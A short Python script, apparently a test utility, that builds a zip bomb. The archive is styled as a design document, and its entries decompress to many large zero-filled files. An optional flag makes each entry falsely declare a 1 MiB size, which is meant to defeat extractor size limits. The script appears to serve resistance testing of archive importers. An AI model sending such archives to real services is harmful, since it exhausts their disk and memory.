#!/usr/bin/env python3
"""Writes a zip document of a few MB whose files expand to COUNT files of SIZE bytes of zeros.

Every 16 MiB of zeros is compressed once after a full flush, so the same deflate bytes stand for
each: seconds to make, however large the content. With --lie each file declares 1 MiB.

Usage: expansion_bomb.py <zip> <count> <size> [--lie]
"""
import struct
import sys
import zlib

path, count, size = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
lie = "--lie" in sys.argv[4:]
chunk = bytes(1 << 24)
whole, rest = divmod(size, len(chunk))
compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
ending = zlib.compressobj(9, zlib.DEFLATED, -15)
tail = ending.compress(bytes(rest)) + ending.flush()
crc = 0
for _ in range(whole):
    crc = zlib.crc32(chunk, crc)
crc = zlib.crc32(bytes(rest), crc)
compressed_size = len(block) * whole + len(tail)

with open(path, "wb") as out:
    central = b""

    def add(name, method, crc32, csize, usize, write_data):
        global central
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc32, csize, usize, len(name), 0))
        out.write(name)
        write_data()
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, 0, method, 0, 0x21, crc32, csize, usize,
                               len(name), 0, 0, 0, 0, 0o100644 << 16, offset) + name

    add(b"design/document.json", 0, zlib.crc32(b'{"version":1}'), 13, 13, lambda: out.write(b'{"version":1}'))

    def zeros():
        for _ in range(whole):
            out.write(block)
        out.write(tail)

    for i in range(count):
        add(b"design/assets/zeros%d.bin" % i, 8, crc, compressed_size, (1 << 20) if lie else size, zeros)
    start = out.tell()
    out.write(central)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count + 1, count + 1, len(central), start, 0))
